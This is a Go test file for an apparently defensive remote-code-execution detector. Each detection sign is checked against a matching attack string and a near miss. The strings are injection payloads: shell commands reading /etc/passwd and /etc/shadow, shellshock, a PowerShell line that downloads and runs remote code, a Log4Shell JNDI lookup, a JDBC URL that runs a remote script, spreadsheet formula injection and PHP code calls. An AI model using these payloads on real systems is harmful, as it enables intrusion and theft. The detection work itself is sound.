package rce

import (
	"testing"

	"github.com/weirnode/weir/detect/detecttest"
	"github.com/weirnode/weir/point"
)

var detector = detecttest.Detector{Gate: Gate, Scan: Scan, Signs: Signs}

// TestSigns holds every sign to a value that shows it and to one that nearly does.
func TestSigns(t *testing.T) {
	f := detector.CheckSigns(t)
	f(&separated, point.Text, `1;cat /etc/passwd`, `a; catalogue`)
	f(&substituted, point.Text, `$(whoami)`, `$(document)`)
	f(&leading, point.Text, `cat /etc/passwd`, `catalogue of things`)
	f(&argument, point.Text, `1;ls -la /tmp`, `1;lsx -la`)
	f(&closed, point.Text, `1;id`, `1;idx`)
	f(&hiddenWord, point.Text, `1;c'a't /etc/passwd`, `1;cat /etc/passwd`)
	f(&fieldSep, point.Text, `1;cat${IFS}/etc/passwd`, `1;cat /etc/passwd`)
	f(&redirection, point.Text, `1;ls > /tmp/x`, `1;ls`)
	f(&shellshock, point.Text, `() { :;}; /bin/id`, `f() { return; }`)
	f(&powershell, point.Text, `iex (New-Object Net.WebClient).DownloadString('http://x')`, `new object`)
	f(&wrapped, point.Text, `1;sudo cat /etc/shadow`, `1;sudoku`)
	f(&hiddenArgument, point.Text, `1;cat ${HOME:0:1}etc`, `1;cat ${HOME}`)
	f(&windowsLoop, point.Text, `& for /f %i in ('whoami') do echo %i`, `for 5% in cash (net)`)
	f(&windowsSlice, point.Text, `%COMSPEC:~0,1%`, `50% :~ 20%`)
	f(&quoteClosed, point.Text, `x'|echo a b`, `'x'|echo a b`)
	f(&outputRun, point.Text, `;$(echo id|tr a-z b-za)`, `the total is $(echo id|tr a-z b-za)`)
	f(&imageCoder, point.Text, `ephemeral:/tmp/a.png`, `label: @home`)
	f(&nestedCall, point.Text, `die(md5(1))`, `die(1)`)
	f(&gadgetClass, point.Text, `com.sun.rowset.JdbcRowSetImpl`, `com.example.RowSet`)
	f(&codeCall, point.Text, `system('id')`, `the system (id)`)
	f(&includeCall, point.Text, `include('/etc/passwd')`, `include (all)`)
	f(&scriptTag, point.Text, `<?php echo 1;`, `<?xml version='1.0'?>`)
	f(&superglobal, point.Text, `$_GET['x']`, `$_GETTER`)
	f(&javaPath, point.Text, `${T(java.lang.Runtime).getRuntime()}`, `the java language`)
	f(&jndi, point.Text, `${${lower:j}ndi:ldap://x}`, `${name}`)
	f(&serialized, point.Text, `O:8:"stdClass":0:{}`, `O: 8 items`)
	f(&prototype, point.Text, `a[__proto__][x]`, `a[proto][x]`)
	f(&option, point.Text, `--upload-pack=touch x`, `--upload=photo.jpg`)
	f(&formula, point.Text, `=cmd|' /C calc'!A0`, `=A1|B1!`)
	f(&driverURL, point.Text, `jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://h.example/a.sql'`, `jdbc:h2:mem:a;INIT=CREATE SCHEMA IF NOT EXISTS A`)
	f(&phrase, point.Text, `"ps".execute()`, `"of the plan".execute()`)
	f(&template, point.Text, `{{7*7}}`, `{{name}}`)
}
